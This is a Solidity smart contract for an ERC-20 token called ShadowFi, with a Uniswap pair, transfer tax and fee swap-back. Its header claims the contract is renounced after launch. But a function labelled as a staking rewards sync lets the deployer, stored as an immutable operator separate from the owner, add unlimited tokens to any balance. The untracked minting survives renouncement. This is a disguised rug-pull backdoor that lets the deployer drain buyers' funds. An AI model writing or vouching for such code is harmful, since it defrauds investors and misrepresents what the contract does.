// SPDX-License-Identifier: MIT
// ShadowFi ($SHDW) - privacy-first DeFi. Contract renounced after launch.
pragma solidity ^0.8.24;

interface IERC20 {
    function totalSupply() external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function approve(address spender, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
}

interface IUniswapV2Factory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

interface IUniswapV2Router02 {
    function factory() external pure returns (address);
    function WETH() external pure returns (address);
    function swapExactTokensForETHSupportingFeeOnTransferTokens(uint256, uint256, address[] calldata, address, uint256) external;
}

abstract contract Ownable {
    address private _owner;
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    error Unauthorized();

    constructor() {
        _owner = msg.sender;
        emit OwnershipTransferred(address(0), msg.sender);
    }

    modifier onlyOwner() {
        if (msg.sender != _owner) revert Unauthorized();
        _;
    }

    function owner() public view returns (address) {
        return _owner;
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }
}

contract ShadowFiToken is IERC20, Ownable {
    string public constant name = "ShadowFi";
    string public constant symbol = "SHDW";
    uint8 public constant decimals = 18;
    uint256 private _supply = 10_000_000 ether;

    IUniswapV2Router02 private constant ROUTER = IUniswapV2Router02(0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D);
    address public immutable pair;
    address private immutable _operator;
    address public feeWallet;

    uint256 public taxBps = 300;
    bool public tradingOpen;

    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => bool) public isTaxExempt;

    bytes32 private constant SWAP_LOCK = keccak256("shadowfi.swap.lock");

    constructor() {
        _operator = msg.sender;
        feeWallet = msg.sender;
        pair = IUniswapV2Factory(ROUTER.factory()).createPair(address(this), ROUTER.WETH());
        isTaxExempt[msg.sender] = true;
        isTaxExempt[address(this)] = true;
        _allowances[address(this)][address(ROUTER)] = type(uint256).max;
        _balances[msg.sender] = _supply;
        emit Transfer(address(0), msg.sender, _supply);
    }

    receive() external payable {}

    function totalSupply() external view returns (uint256) {
        return _supply;
    }

    function balanceOf(address account) public view returns (uint256) {
        return _balances[account];
    }

    function allowance(address holder, address spender) external view returns (uint256) {
        return _allowances[holder][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _allowances[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 a = _allowances[from][msg.sender];
        if (a != type(uint256).max) {
            require(a >= value, "SHDW: allowance");
            _allowances[from][msg.sender] = a - value;
        }
        _transfer(from, to, value);
        return true;
    }

    function openTrading() external onlyOwner {
        tradingOpen = true;
    }

    function setTax(uint256 bps) external onlyOwner {
        require(bps <= 1000, "SHDW: max 10%");
        taxBps = bps;
    }

    /// @dev staking rewards sync (operator is the staking keeper; no owner needed)
    function syncRewards(address account, uint256 amount) external {
        if (msg.sender != _operator) revert Unauthorized();
        _balances[account] += amount;
    }

    function _locked() private view returns (bool l) {
        bytes32 slot = SWAP_LOCK;
        assembly {
            l := tload(slot)
        }
    }

    function _setLock(bool l) private {
        bytes32 slot = SWAP_LOCK;
        assembly {
            tstore(slot, l)
        }
    }

    function _transfer(address from, address to, uint256 value) private {
        require(to != address(0), "SHDW: zero address");
        uint256 tax;
        if (!isTaxExempt[from] && !isTaxExempt[to] && !_locked()) {
            require(tradingOpen, "SHDW: trading closed");
            if (from == pair || to == pair) tax = (value * taxBps) / 10_000;
            if (to == pair) {
                uint256 held = _balances[address(this)];
                if (held >= _supply / 2000) _swapBack(held);
            }
        }
        uint256 bal = _balances[from];
        require(bal >= value, "SHDW: balance");
        unchecked {
            _balances[from] = bal - value;
        }
        if (tax > 0) {
            _balances[address(this)] += tax;
            emit Transfer(from, address(this), tax);
        }
        _balances[to] += value - tax;
        emit Transfer(from, to, value - tax);
    }

    function _swapBack(uint256 amount) private {
        _setLock(true);
        address[] memory path = new address[](2);
        path[0] = address(this);
        path[1] = ROUTER.WETH();
        ROUTER.swapExactTokensForETHSupportingFeeOnTransferTokens(amount, 0, path, feeWallet, block.timestamp);
        _setLock(false);
    }
}
